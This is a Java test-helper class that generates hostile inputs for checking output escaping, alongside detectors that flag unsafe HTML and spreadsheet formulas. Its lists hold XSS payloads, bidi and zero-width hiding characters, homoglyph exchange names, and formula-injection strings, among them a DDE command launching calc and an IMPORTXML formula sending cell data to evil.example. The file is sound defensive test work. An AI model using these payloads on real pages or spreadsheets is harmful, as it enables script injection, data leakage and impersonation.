package org.plainsight.testing;

import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Texts that want to run, to hide, to turn the line around, to be taken for others or to be a formula; and who tells. */
public final class HostileTexts {

    /** Each with a place for a number that makes it unlike the others. */
    public static final List<String> RUN = List.of(
            "<script>alert(%d)</script>",
            "\"><script>x%d</script>",
            "'><img src=x onerror=alert(%d)>",
            "<svg/onload=alert(%d)>",
            "</title><script>%d</script>",
            "</textarea><iframe src=javascript:alert(%d)>",
            "{#include layout}{/include}<b>%d",
            "<!--<img src=\"--><img src=x onerror=%d//\">",
            "\" onmouseover=\"alert(%d)",
            "' onfocus='alert(%d)' autofocus='",
            "<a href=\"javascript:alert(%d)\">x</a>",
            "<math><mi//xlink:href=\"data:x,<script>%d</script>\">",
            "</summary></entry></feed><x xmlns=\"%d\">",
            "]]>&lt;![CDATA[%d",
            "{{%d*7}}${7*7}#{7*7}",
            "&#x0;&undefined%d;",
            "<style>*{background:url(//evil.example/%d)}</style>");

    public static final List<String> HIDE = List.of(
            "\u202eevil%d\u202c",
            "pay\u2066pal%d\u2069", "a\u200bb%d", "x\u2028y%d", "\u061cz%d", "\ufeffq%d", "\u2067w%d");

    /** Words in letters that look like others. */
    public static final List<String> LOOK_ALIKE =
            List.of("B\u0456nance", "\u0430\u0440\u0440\u04cf\u0435", "\uff22itfinex", "Kr\u03b1ken", "B\u0131nance");

    private static final List<String> SIGNS = List.of("=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "\t=");
    private static final List<String> BEFORE = List.of("", " ", "\u00a0", "\u200b", "\ufeff");
    private static final List<String> FORMULAS = List.of(
            "HYPERLINK(\"https://evil.example\",\"x\")",
            "cmd|' /C calc'!A0",
            "IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
            "1+1\",=2+5");

    private static final Pattern TAG = Pattern.compile("<(/?[a-zA-Z!][^\\s>]*)((?:[^>\"']|\"[^\"]*\"|'[^']*')*)>");
    private static final Pattern ELEMENT = Pattern.compile(
            "/?(html|head|title|meta|link|body|header|footer|main|nav|section|template|noscript|div|p|span|a|abbr|br|wbr|hr|h[1-4]"
                    + "|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|th|td|form|label|input|select|option|button|textarea"
                    + "|fieldset|legend|details|summary|strong|em|b|small|code|pre|time|output|progress|svg|path|rect|line|circle"
                    + "|text|g|polyline|polygon|desc|figure|figcaption|blockquote|script|!doctype)",
            Pattern.CASE_INSENSITIVE);
    private static final Pattern HANDLER = Pattern.compile("(?:^|[\\s\"'/])on[a-z]+\\s*=", Pattern.CASE_INSENSITIVE);
    private static final Pattern QUOTED = Pattern.compile("\"[^\"]*\"|'[^']*'");
    private static final Pattern OWN_SCRIPT = Pattern.compile("\\s(?:type=\"module\"\\s)?src=\"/[a-z][^\"]*\"[^<>]*");
    private static final Pattern LINK = Pattern.compile("(?:href|src|action)=\"([^\"]*)\"");
    private static final Pattern HIDDEN =
            Pattern.compile("[\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2028\u2029\u061c\ufeff]");

    /** Sent back as it is, and never shown. */
    private static final Pattern FORM_DATA = Pattern.compile("<input type=\"hidden\"[^>]*>");

    private HostileTexts() {}

    /** Two hundred, each another. */
    public static List<String> formulas() {
        List<String> all = new ArrayList<>();
        for (String sign : SIGNS) {
            for (String before : BEFORE) {
                FORMULAS.forEach(formula -> all.add(before + sign + formula));
            }
        }
        return all;
    }

    /** Whether a spreadsheet would take a cell for a formula, by the first character that shows. */
    public static boolean isFormula(String cell) {
        String shown = cell.replaceFirst("^[\\s\\p{Z}\\p{Cf}]+", "");
        boolean controlFirst = !cell.isEmpty() && Character.isISOControl(cell.charAt(0));
        return controlFirst || (!shown.isEmpty() && "=+-@＝＋－＠".indexOf(shown.charAt(0)) >= 0);
    }

    /** What is wrong with a page: elements that are not ours, handlers, scripts and links elsewhere, text that hides. */
    public static List<String> harmIn(String html) {
        List<String> harm = new ArrayList<>();
        Matcher tags = TAG.matcher(html);
        while (tags.find()) {
            String element = tags.group(1);
            String attributes = tags.group(2);
            if (!ELEMENT.matcher(element).matches()
                    || HANDLER.matcher(QUOTED.matcher(attributes).replaceAll("\"\""))
                            .find()
                    || (element.equalsIgnoreCase("script")
                            && !OWN_SCRIPT.matcher(attributes).matches())) {
                harm.add(tags.group());
            }
            Matcher links = LINK.matcher(attributes);
            while (links.find()) {
                if (!links.group(1).matches("(https?://|/|#|\\?|data:image/).*|mailto:.*|[a-z0-9.-]+|")) {
                    harm.add(links.group());
                }
            }
        }
        Matcher hidden = HIDDEN.matcher(FORM_DATA.matcher(html).replaceAll(""));
        while (hidden.find()) {
            harm.add("U+%04X at %d".formatted((int) hidden.group().charAt(0), hidden.start()));
        }
        return harm;
    }
}
